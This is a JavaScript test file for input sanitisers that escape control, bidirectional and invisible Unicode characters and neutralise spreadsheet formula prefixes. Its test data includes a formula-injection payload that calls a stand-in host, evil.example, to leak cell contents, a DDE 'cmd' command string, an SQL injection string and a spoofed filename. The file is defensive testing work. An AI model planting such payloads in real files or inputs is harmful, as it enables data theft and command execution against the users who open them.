import fc from 'fast-check';

import { boundedText, looksStored, safeCell, safeText } from './safe-text.js';

describe('safeText', () => {
  it.each([
    ['a line break', 'a\nb', 'a\\u000ab'],
    ['a carriage return', 'a\rb', 'a\\u000db'],
    ['NUL', 'a\0b', 'a\\u0000b'],
    ['a terminal escape', '\u001b[31mred', '\\u001b[31mred'],
    ['a C1 control sequence introducer', '\u009b31m', '\\u009b31m'],
    ['DEL', '\u007f', '\\u007f'],
    ['a line separator', '\u2028', '\\u2028'],
    ['a bidirectional override', 'user\u202egpj.exe', 'user\\u202egpj.exe'],
    ['a bidirectional isolate', '\u2066x\u2069', '\\u2066x\\u2069'],
    ['direction marks', '\u200e\u200f\u061c', '\\u200e\\u200f\\u061c'],
    ['a lone high surrogate', 'a\ud800b', 'a\\ud800b'],
    ['a lone low surrogate', '\udc00', '\\udc00'],
    ['an invisible tag character', 'a\u{e0041}', 'a\\udb40\\udc41'],
    ['the joiner of an emoji', '👩\u200d💻', '👩\\u200d💻'],
    ['an interlinear annotation', '\ufff9x\ufffa', '\\ufff9x\\ufffa'],
    ['a beam of music', '\u{1d173}', '\\ud834\\udd73'],
  ])('shows %s as an escape', (_, text, safe) => {
    expect(safeText(text)).toBe(safe);
  });

  it.each(['crm_open_record', 'Zoë Ångström', 'راشد', '客户', '😀', 'DOMAIN\\user', "'; DROP TABLE x; --"])(
    'leaves %s as it is',
    (text) => {
      expect(safeText(text)).toBe(text);
    },
  );

  it.each([
    0xad, 0x34f, 0x115f, 0x1160, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x206a, 0x206f, 0x2800, 0x3164,
    0xfe00, 0xfe0f, 0xffa0, 0xfff9, 0xfffb, 0x1d159, 0x1d173, 0xe0001, 0xe0100, 0xe01ef,
  ])('hides nothing in U+%s', (codePoint) => {
    const invisible = String.fromCodePoint(codePoint);
    expect(safeText(`a${invisible}b`)).toMatch(/^a(?:\\u[0-9a-f]{4}){1,2}b$/);
    expect(safeCell(`${invisible}=1+1`)).toMatch(/^\\u/);
  });

  it('changes a safe text no more', () => {
    fc.assert(fc.property(hostile, (text) => safeText(safeText(text)) === safeText(text)));
  });

  it('keeps what a JSON text means', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(JSON.parse(safeText(JSON.stringify({ text })))).toEqual({ text });
      }),
    );
  });
});

describe('safeCell', () => {
  it.each([
    ['=HYPERLINK("https://evil.example?"&A1)', '\\u003dHYPERLINK("https://evil.example?"&A1)'],
    ['+1+cmd|" /C calc"!A0', '\\u002b1+cmd|" /C calc"!A0'],
    ['-2+3', '\\u002d2+3'],
    ['-cmd|x', '\\u002dcmd|x'],
    ['=A1', '\\u003dA1'],
    ['@SUM(1)', '\\u0040SUM(1)'],
    ['\t=1', '\\u0009=1'],
    ['\r=1', '\\u000d=1'],
    ['\uff1d1', '\\uff1d1'],
    [' =1+1', ' \\u003d1+1'],
    ['\u00a0\u3000@SUM(1)', '\u00a0\u3000\\u0040SUM(1)'],
  ])('shows that %j is no formula', (text, safe) => {
    expect(safeCell(text)).toBe(safe);
  });

  it.each([
    '-SQslYgJE81Q9_x',
    '+4917012345',
    '@alice',
    '-',
    '',
    'a=1',
    'crm-read',
    '1-2',
    'x@acme.example',
    '{"a":"=1"}',
  ])('leaves %j as it is', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it('begins with nothing that a spreadsheet would run, and changes a safe text no more', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        expect(safeCell(text)).toMatch(/^\s*(?:[^\s=+\-@\uff1d\uff0b\uff0d\uff20]|$)|^[+\-@][\w.-]*$/);
        expect(safeCell(safeCell(text))).toBe(safeCell(text));
      }),
    );
  });
});

describe('boundedText', () => {
  it('is well formed, safe and within its limit, whatever comes', () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 18, max: 60 }), (text, limit) => {
        const bounded = boundedText(text, limit);
        expect(bounded.length).toBeLessThanOrEqual(limit);
        expect(bounded.isWellFormed()).toBe(true);
        expect(safeCell(bounded)).toBe(bounded);
      }),
    );
  });

  it('is safeCell for what fits', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const safe = safeCell(text);
        expect(boundedText(text, Math.max(safe.length, 18))).toBe(safe);
      }),
    );
  });

  it('keeps two long texts with the same beginning apart', () => {
    const beginning = 'x'.repeat(1000);
    expect(boundedText(`${beginning}1`, 64)).not.toBe(boundedText(`${beginning}2`, 64));
  });

  it('cuts neither an escape nor a surrogate pair in two', () => {
    expect(boundedText(`${'x'.repeat(40)}${'\n'.repeat(30)}`, 60)).toMatch(/^x{40}…[0-9a-f]{16}$/);
    expect(boundedText('😀'.repeat(40), 22)).toMatch(/^😀😀…[0-9a-f]{16}$/u);
  });
});

describe('looksStored', () => {
  it('is true of every stored form that is another text than what it stands for', () => {
    fc.assert(
      fc.property(hostile, fc.integer({ min: 18, max: 60 }), (text, limit) => {
        const stored = boundedText(text, limit);
        expect(stored === text || looksStored(stored)).toBe(true);
      }),
    );
  });

  it.each(['acme', '=acme', 'acme\\users', 'a…b', ''])('is false of %j', (text) => {
    expect(looksStored(text)).toBe(false);
  });
});

const hostile = fc.string({
  unit: fc.oneof(
    fc.string({ unit: 'binary', maxLength: 1 }),
    fc.constantFrom(
      '\0',
      '\n',
      '\u001b',
      '\u202e',
      '\u2066',
      '\ud800',
      '\udc00',
      '\u{e0041}',
      '😀',
      '\\',
      '"',
      '=',
      '+',
      '-',
      '@',
      '\t',
      ' ',
      '\u00ad',
      '\uff1d',
    ),
  ),
  maxLength: 80,
});
